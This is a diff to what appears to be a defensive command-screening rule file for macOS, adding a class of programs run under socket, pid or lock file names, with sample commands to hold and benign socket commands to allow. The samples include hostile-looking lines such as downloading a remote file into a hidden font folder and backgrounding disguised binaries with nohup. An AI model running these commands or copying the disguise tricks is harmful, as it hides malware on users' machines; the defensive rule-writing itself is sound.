@@ -10,7 +10,9 @@ lines. Each family is one class:
 - a downloaded or temporary file opened as root (``sudo open ~/Downloads/x``): whatever it is, it runs
   with root's rights (asked); installed apps and the project's own build pass;
 - a file that is not a font written into a font folder (``cp payload /Library/Fonts/.x``, ``curl -o
-  ~/Library/Fonts/update``): a payload kept where nobody looks (blocked); fonts and globs of them pass.
+  ~/Library/Fonts/update``): a payload kept where nobody looks (blocked); fonts and globs of them pass;
+- a program run by a path whose name is a socket's, pid file's or lock's (``/usr/local/bin/com.docker.sock
+  &``): disguised as a file no one runs (asked); the socket itself used by docker or curl passes.
 """
 
 HELD: dict[str, list[str]] = {
@@ -33,6 +35,12 @@ HELD: dict[str, list[str]] = {
         "sudo mv /tmp/a /Library/Fonts/com.apple.fontd",
         "wget -qO $HOME/Library/Fonts/.cache/agent http://198.51.100.4/a",
     ],
+    "program disguised as a socket": [
+        "/usr/local/bin/com.docker.sock &",
+        "nohup /usr/local/libexec/com.apple.mdworker.sock >/dev/null 2>&1 &",
+        "/Users/Shared/.x/agent.pid",
+        "./dbus.socket -d",
+    ],
 }
 
 ALLOWED: list[str] = [
@@ -49,4 +57,8 @@ ALLOWED: list[str] = [
     "cp fonts/*.otf ~/Library/Fonts/",
     "curl -sLo ~/Library/Fonts/FiraCode-Regular.ttf https://github.com/tonsky/FiraCode/raw/master/x.ttf",
     "ls ~/Library/Fonts",
+    "ls -l /var/run/docker.sock",
+    "rm -f /tmp/mysql.sock",
+    "curl --unix-socket /var/run/docker.sock http://localhost/info",
+    "cat /run/nginx.pid",
 ]
